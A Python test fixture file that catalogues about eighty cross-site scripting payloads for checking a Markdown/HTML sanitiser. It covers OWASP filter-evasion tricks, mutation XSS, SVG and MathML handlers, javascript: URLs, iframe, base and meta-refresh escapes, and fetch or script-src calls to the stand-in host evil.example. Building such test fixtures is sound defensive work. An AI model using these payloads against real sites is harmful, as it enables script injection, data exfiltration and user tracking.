"""A catalogue of hostile page bodies, as an attacker with an editor's account would write them.

Every payload, if it ran, would say so: it sets ``window.__pwned``, retitles the page
``PWNED``, opens a dialog or asks ``evil.example`` for something. The categories of issue 12
come first, then OWASP's XSS filter evasion list, mutation XSS, SVG, MathML and other ways
out of a page (refresh, base, forms, frames, plugins, portals, CSS).
"""

from __future__ import annotations

import pytest

SEEN = pytest.StashKey[list[str]]()
"""What the hostile test saw, printed at the end of the run (conftest)."""

RUN = "window.__pwned=1;document.title='PWNED'"
EVIL = "https://evil.example"

PAYLOADS: dict[str, str] = {
    # -- issue 12's categories -----------------------------------------------------------
    "attr-list-brace": f'Текст абзаца.\n{{: title="}}" onclick="{RUN}" }}',
    "attr-list-brace-quote": f"Текст.\n{{: title='}}\"' onmouseover=\"{RUN}\" }}",
    "attr-list-style": f'Фон.\n{{: style="background:url({EVIL}/attr-list.png)" }}',
    "attr-list-id-config": '{"base": "https://evil.example/"}\n{: #__config }',
    "duplicate-attribute": f'<p title="a" title="b" onclick="{RUN}" onclick="">x</p>',
    "duplicate-src": f'<img src="photo.jpg" src="{EVIL}/duplicate-src.png" alt="Фото">',
    "noscript-mutation": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "svg-animate-href": ('<svg><a><animate attributeName="href" values="javascript:'
                         f'{RUN}"/><text x="20" y="20">нажмите</text></a></svg>'),
    "svg-set-href": (f'<svg><a><set attributeName="href" to="javascript:{RUN}"/>'
                     '<text x="0" y="15">ссылка</text></a></svg>'),
    "link-stylesheet": f'<link rel="stylesheet" href="{EVIL}/link.css">',
    "style-import": f"<style>@import url({EVIL}/import.css);</style>",
    "style-background": '<p style="background:url(//evil.example/style-attr.png)">фон</p>',
    "style-element-background": f"<style>body{{background:url({EVIL}/style-el.png)}}</style>",
    "svg-image-href": f'<svg><image href="{EVIL}/svg-image.png" width="10" height="10"/></svg>',
    "svg-use-href": f'<svg><use href="{EVIL}/use.svg#a"/></svg>',
    "table-background": f'<table background="{EVIL}/table.png"><tr><td>x</td></tr></table>',
    "iframe-backslash-host": ('<iframe src="https://evil.example\\@www.youtube.com/embed/x">'
                              "</iframe>"),
    "iframe-foreign": f'<iframe src="{EVIL}/frame"></iframe>',
    "iframe-allowed-host": ('<iframe src="https://www.youtube.com/embed/abc" title="Видео">'
                            "</iframe>"),
    "image-foreign": f'<img src="{EVIL}/direct.png" alt="Фото">',
    "image-protocol-relative": '<img src="//evil.example/relative.png" alt="Фото">',
    "markdown-image-foreign": f"![Фото]({EVIL}/markdown.png)",
    "srcset-foreign": f'<img src="photo.jpg" srcset="{EVIL}/srcset.png 2x" alt="Фото">',
    "picture-source-foreign": (f'<picture><source srcset="{EVIL}/source.png">'
                               '<img src="photo.jpg" alt="Фото"></picture>'),
    "video-poster": f'<video poster="{EVIL}/poster.png" src="{EVIL}/v.mp4"></video>',
    "audio-foreign": f'<audio autoplay src="{EVIL}/a.mp3"></audio>',
    # -- scripts, handlers and javascript: addresses (OWASP) ----------------------------------
    "script": f"<script>{RUN}</script>",
    "script-foreign": f'<script src="{EVIL}/x.js"></script>',
    "script-slash": f'<SCRIPT/XSS SRC="{EVIL}/slash.js"></SCRIPT>',
    "script-nested": f'<<SCRIPT>{RUN};//\\<</SCRIPT>',
    "img-onerror": f"<img src=x onerror=\"{RUN}\">",
    "img-onerror-fetch": f"<img src=x onerror=\"fetch('{EVIL}/fetch')\">",
    "img-quotes": f'<IMG """><SCRIPT>{RUN}</SCRIPT>">',
    "img-javascript": "<IMG SRC=javascript:alert('XSS')>",
    "img-tab-javascript": f'<IMG SRC="jav&#x09;ascript:{RUN};">',
    "link-javascript": f'<a href="javascript:{RUN}">ссылка</a>',
    "link-entities": ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
                      'alert(1)">ссылка</a>'),
    "link-hex-entities": '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;'
                         '&#x74;&#x3A;alert(1)">ссылка</a>',
    "link-newline": f'<a href="java\nscript:{RUN}">ссылка</a>',
    "markdown-link-javascript": f"[ссылка](javascript:{RUN})",
    "markdown-link-mixed-case": "[ссылка](JaVaScRiPt:alert(1))",
    "markdown-autolink-javascript": "<javascript:alert(1)>",
    "link-vbscript": '<a href="vbscript:msgbox(1)">ссылка</a>',
    "link-data-html": '<a href="data:text/html,<script>alert(1)</script>">ссылка</a>',
    "svg-onload": f"<svg/onload={RUN}>",
    "body-onload": f"<BODY ONLOAD={RUN}>",
    "details-ontoggle": f"<details open ontoggle=\"{RUN}\"><summary>s</summary>x</details>",
    "input-image": f"<INPUT TYPE=\"IMAGE\" SRC=\"javascript:{RUN};\">",
    "input-autofocus": f"<input autofocus onfocus=\"{RUN}\">",
    "video-source-onerror": f"<video><source onerror=\"{RUN}\"></video>",
    "audio-onerror": f"<audio src=x onerror=\"{RUN}\"></audio>",
    "marquee-onstart": f"<marquee onstart=\"{RUN}\">x</marquee>",
    "div-onmouseover": f'<div onmouseover="{RUN}" style="width:100%;height:50px">наведите</div>',
    "xmp-breakout": f"<xmp><img src=x onerror=\"{RUN}\"></xmp>",
    "noembed-breakout": f'<noembed><img title="</noembed><img src=x onerror={RUN}>"></noembed>',
    "textarea-breakout": f'<textarea><img title="</textarea><img src=x onerror={RUN}>">'
                         "</textarea>",
    "template-element": f"<template><img src=x onerror=\"{RUN}\"></template>",
    "comment-breakout": f"<!--><img src=x onerror=\"{RUN}\">-->",
    "css-expression": "<div style=\"width: expression(alert('XSS'));\">x</div>",
    # -- mutation XSS --------------------------------------------------------------------
    "mxss-math-style": f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUN}\">",
    "mxss-svg-style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mxss-form-math": (f"<form><math><mtext></form><form><mglyph><style></math>"
                       f"<img src onerror=\"{RUN}\">"),
    "mxss-svg-p": f'<svg><p><style><img src=x onerror="{RUN}"></style></p></svg>',
    "mxss-noscript-style": f'<noscript><style></noscript><img src=x onerror="{RUN}">',
    # -- MathML --------------------------------------------------------------------------
    "mathml-maction": ('<math><maction actiontype="statusline" xlink:href="javascript:'
                       f'{RUN}">x</maction></math>'),
    "mathml-href": f'<math href="javascript:{RUN}"><mi>нажмите</mi></math>',
    # -- leaving the page, other documents --------------------------------------------
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/refresh">',
    "base-href": f'<base href="{EVIL}/">\n\n<img src="relative.png" alt="Фото">',
    "iframe-srcdoc": f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<script>parent.__pwned=1</script>\"></iframe>",
    "iframe-javascript": f'<iframe src="javascript:parent.{RUN}"></iframe>',
    "form-action": f'<form action="{EVIL}/form"><button>Отправить</button></form>',
    "button-formaction": f'<form><button formaction="javascript:{RUN}">Отправить</button></form>',
    "object-data": f'<object data="{EVIL}/x.swf"></object>',
    "object-svg-data": ('<object data="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/'
                        f'svg\' onload=\'parent.{RUN}\'/>"></object>'),
    "embed-src": f'<embed src="{EVIL}/x.swf">',
    "portal": f'<portal src="{EVIL}/portal"></portal>',
    "img-svg-data": ('<img alt="svg" src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3d'
                     'y53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">'),
    "link-prefetch": f'<link rel="prefetch" href="{EVIL}/prefetch">',
    "anchor-ping": f'<a href="#x" ping="{EVIL}/ping">ссылка</a>',
    "jinja-in-markdown": "{{ config.site_name }} {% include 'x' %} ${7*7}",
}
"""Page bodies (Markdown with raw HTML), by name."""

CLEAN_PAYLOADS = {"jinja-in-markdown", "iframe-allowed-host"}
"""Payloads that are not attacks: they must build and still do nothing foreign on load."""
